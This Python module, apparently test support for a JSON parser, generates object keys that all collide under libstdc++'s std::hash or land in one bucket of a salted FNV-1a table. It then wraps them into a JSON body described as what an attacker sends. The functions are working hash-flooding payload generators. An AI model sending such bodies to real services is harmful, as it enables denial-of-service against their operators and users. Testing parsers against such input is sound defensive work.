"""Keys of JSON objects that fall into one bucket of a hash table whose hash is known: what an attacker's body has."""
from random import Random


def known_hash_keys(bits):
    """2^bits strings of 16 · bits characters that std::hash of libstdc++ takes for one.

    It mixes each block k of 8 bytes by an invertible f and makes h = (h ^ f(k)) · m. So for two first blocks there is, for
    each second block of the one, a second block of the other after which h is the same, again and again."""
    m, mask = 0xC6A4A7935BD1E995, (1 << 64) - 1
    inverse = pow(m, -1, 1 << 64)
    random = Random(1)

    def f(k):
        k = k * m & mask
        return (k ^ k >> 47) * m & mask

    def f_inverse(k):
        k = k * inverse & mask
        return (k ^ k >> 47) * inverse & mask

    def block():
        return int.from_bytes(random.choices(b"abcdefghijklmnopqrstuvwxyz", k=8), "little")

    def two_spellings(h):
        while True:  # about one try of 3,600 is printable
            a, b, after_a = block(), block(), block()
            ha, hb = (h ^ f(a)) * m & mask, (h ^ f(b)) * m & mask
            after_b = f_inverse(f(after_a) ^ ha ^ hb).to_bytes(8, "little")
            if a != b and all(0x20 <= c < 0x7F and c not in b'"\\' for c in after_b):
                first = a.to_bytes(8, "little") + after_a.to_bytes(8, "little")
                return (first, b.to_bytes(8, "little") + after_b), (ha ^ f(after_a)) * m & mask

    h, keys = 0xC70F6907 ^ 16 * bits * m & mask, [b""]
    for _ in range(bits):
        spellings, h = two_spellings(h)
        keys = [key + spelling for key in keys for spelling in spellings]
    return keys


def salted_fnv_keys(count, salt):
    """So many strings of one bucket in a table of `count` buckets (a power of two up to 65,536) under FNV-1a whose first
    value has `salt` added, as the table of a JSON object has its address. Characters change the lowest 8 bits of the state
    alone, so a multiple of 256 in the salt moves all strings alike: of an address that is aligned, 16 salts are all."""
    prime, modulus = 0x100000001B3, count
    inverse = pow(prime, -1, modulus)
    start = (0xCBF29CE484222325 + salt) % modulus
    letters = [c for c in range(0x23, 0x7F) if c != 0x5C]
    allowed = set(letters)
    high = modulus - 1 ^ 0xFF if modulus > 256 else 0
    # The states that two more characters lead to bucket 0, by what the first of the two cannot change.
    wanted = {}
    for last in letters:  # (h ^ last) · p = 0 where h = last, the state before it times p
        state = last * inverse % modulus
        wanted.setdefault(state & high, []).append((state, last))
    keys = []
    for a in letters:
        h1 = (start ^ a) * prime % modulus
        for b in letters:
            h2 = (h1 ^ b) * prime % modulus
            for c in letters:
                h3 = (h2 ^ c) * prime % modulus
                for state, last in wanted.get(h3 & high, ()):
                    character = (h3 ^ state) & 0xFF
                    if character in allowed:
                        keys.append(bytes((a, b, c, character, last)))
                        if len(keys) == count:
                            return keys
    return keys


def object_text(keys):
    return b"{" + b",".join(b'"%s":0' % key for key in keys) + b"}"
